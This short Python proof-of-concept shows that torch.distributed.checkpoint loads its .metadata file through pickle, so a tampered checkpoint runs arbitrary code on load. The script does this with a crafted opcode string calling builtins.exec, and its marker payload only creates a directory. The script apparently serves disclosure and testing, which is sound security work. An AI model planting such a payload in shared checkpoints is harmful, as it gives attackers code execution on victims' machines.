# torch.distributed.checkpoint: reading .metadata executes what it says (torch.load has been weights_only=True since 2.6)
import os, torch, torch.distributed.checkpoint as dcp

dcp.save({"w": torch.zeros(4)}, checkpoint_id="ck", no_dist=True)
data = open("ck/.metadata", "rb").read()
call = b"\x80\x04cbuiltins\nexec\n(V__import__('os').mkdir('executed')\ntR0"
open("ck/.metadata", "wb").write(call + data[2:])
dcp.load({"w": torch.zeros(4)}, checkpoint_id="ck", no_dist=True)
print("executed:", os.path.isdir("executed"))
